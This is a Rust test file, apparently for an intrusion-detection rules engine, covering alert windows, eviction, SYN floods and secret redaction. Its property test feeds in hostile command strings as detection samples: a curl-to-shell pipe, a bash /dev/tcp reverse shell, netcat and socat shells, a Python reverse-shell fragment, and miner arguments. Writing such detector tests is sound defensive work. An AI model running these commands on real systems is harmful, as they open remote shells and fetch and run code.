use std::time::Duration;

use proptest::prelude::*;

use super::*;
use crate::rules::testing::{Bench, connect, exec, payload};

#[test]
fn a_finding_is_told_once_a_window_and_the_next_says_how_often_it_was_seen() {
    let mut bench = Bench::new("window_seconds = 300");
    let program = exec("/tmp/a", &[]);

    assert_eq!(bench.start(&program)[0].count, 1);
    for _ in 0..4 {
        bench.wait(60);
        assert_eq!(bench.start(&program), []);
    }
    assert_eq!(bench.rules.suppressed(), 4);
    bench.wait(60);
    assert_eq!(bench.start(&program)[0].count, 5);
    assert_eq!(bench.start(&exec("/tmp/b", &[]))[0].count, 1, "another program is another finding");
}

#[test]
fn a_clock_that_is_set_back_does_not_silence_the_rules() {
    let mut bench = Bench::new("");
    bench.start(&exec("/tmp/a", &[]));

    bench.wait(-86_400);
    assert_eq!(bench.start(&exec("/tmp/a", &[])).len(), 1);
}

#[test]
fn findings_carry_what_the_table_of_rules_says() {
    let found = Bench::new("").start(&exec("/tmp/a", &[]));
    let info = ALL.iter().find(|info| info.id == "exec_from_tmp").unwrap();

    assert_eq!((&*found[0].rule, found[0].severity), (info.id, info.severity));
    assert_eq!((&*found[0].explanation, &*found[0].false_positives), (info.explanation, info.false_positives));
    assert_eq!(found[0].task.as_ref().unwrap().name, "a");
}

#[test]
fn nothing_is_told_while_all_rules_are_off() {
    let mut bench = Bench::new("enabled = false");

    assert_eq!(bench.start(&exec("/tmp/a", &[])), []);
    assert_eq!(bench.see(Observation::Payload(payload(21, b"PASS hunter2\r\n"))), []);
}

#[test]
fn what_left_a_full_table_is_counted() {
    let mut bench = Bench::new("max_sources = 16");
    for number in 0..100 {
        assert_eq!(bench.start(&exec(&format!("/tmp/{number}"), &[])).len(), 1);
        let source = format!("192.0.2.{number}:1");
        bench.see(Observation::Connect(connect(&source, "10.0.0.1:22", ConnectOutcome::Connected)));
        bench.see(Observation::Connect(connect(&source, "10.0.0.1:9", ConnectOutcome::Refused)));
    }

    assert_eq!(bench.rules.forgotten(), 3 * 84);
}

#[test]
fn a_storm_of_processes_is_told_in_a_bounded_number_of_states() {
    let mut bench = Bench::new("");
    let mut found = Vec::new();
    for pid in 0..20_000 {
        let mut exec = exec("/tmp/bomb", &[]);
        exec.task.pid = pid;
        let started = Started { exec: &exec, is_deleted: false };
        bench.rules.observe(Timestamp::from_millis(0), &Observation::Exec(started), &mut found);
    }

    assert_eq!((found.len(), bench.rules.suppressed(), bench.rules.forgotten()), (1, 19_999, 0));
}

#[test]
fn any_time_is_fine() {
    let mut rules = Rules::new(&RulesConfig::default()).unwrap();
    let mut found = Vec::new();
    let start = Timestamp::from_millis(1_700_000_000_000);
    for at in [Timestamp::MIN, Timestamp::MAX, start, start - Duration::from_secs(1), Timestamp::default()] {
        for observation in [
            Observation::Connect(connect("192.0.2.7:1", "10.0.0.1:22", ConnectOutcome::Connected)),
            Observation::Connect(connect("192.0.2.7:1", "10.0.0.1:22", ConnectOutcome::Refused)),
            Observation::Syns(Syns { source: None, destination: None, received: 5000, completed: 0 }),
        ] {
            rules.observe(at, &observation, &mut found);
        }
    }

    assert!(found.iter().all(|finding| finding.rule == "syn_flood"));
}

proptest! {
    #[test]
    fn arguments_never_panic_and_a_secret_is_never_shown(
        secret in "[A-Z]{12}",
        program in "(sh|bash|nc|ncat|socat|python3|perl|xmrig|busybox|curl)",
        noise in any::<String>(),
        is_deleted in any::<bool>(),
    ) {
        for script in [
            format!("curl -u me:{secret} https://{secret}@example.com/{secret}?k={secret} | sh -s {secret}"),
            format!("bash -i >& /dev/tcp/192.0.2.9/{secret} 0>&1; {noise}"),
            format!("TOKEN={secret} sh -i | nc h 1 {noise}"),
            format!("TCP:h:1 EXEC:sh {secret}"),
            format!("import socket; s.connect(('{secret}')); os.dup2(); '/bin/sh'"),
            noise.clone(),
        ] {
            let arguments = [&program, "-c", &script, "-e", "/bin/sh", "stratum+tcp://x", &secret, &noise];
            let exec = exec(&format!("/tmp/{program}"), &arguments);
            let found = Bench::new("").see(Observation::Exec(Started { exec: &exec, is_deleted }));

            prop_assert!(!found.is_empty());
            for finding in found {
                prop_assert!(!finding.evidence.contains(&secret), "{}", finding.evidence);
                prop_assert!(finding.evidence.chars().count() <= 120);
            }
        }
    }
}
